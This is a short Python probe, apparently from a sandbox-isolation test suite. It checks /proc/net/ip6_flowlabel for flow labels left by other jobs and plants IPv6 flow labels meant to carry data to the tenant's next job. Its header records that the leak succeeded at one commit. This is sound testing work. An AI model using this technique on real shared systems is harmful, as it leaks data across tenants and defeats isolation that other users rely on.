# tries: leave data for the next job of the tenant in flow labels, and find data of another job
# outcome: succeeded
# victim: yes
from hostile import *
import socket, struct

# Worked on 5ee7338 at cell: a namespace in which no packet had moved was used again, with its labels.
try:
    if open("/proc/net/ip6_flowlabel").read().count("\n") > 1:
        escaped("labels that are not its own")
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    address = socket.inet_pton(socket.AF_INET6, "fd00::cafe")
    for label in range(1, 20):
        s.setsockopt(41, 32, struct.pack("16s4sBBHHHI", address, struct.pack(">I", label), 0, 255, 1, 0, 150, 0))
except OSError:
    pass  # a kernel without

contained()
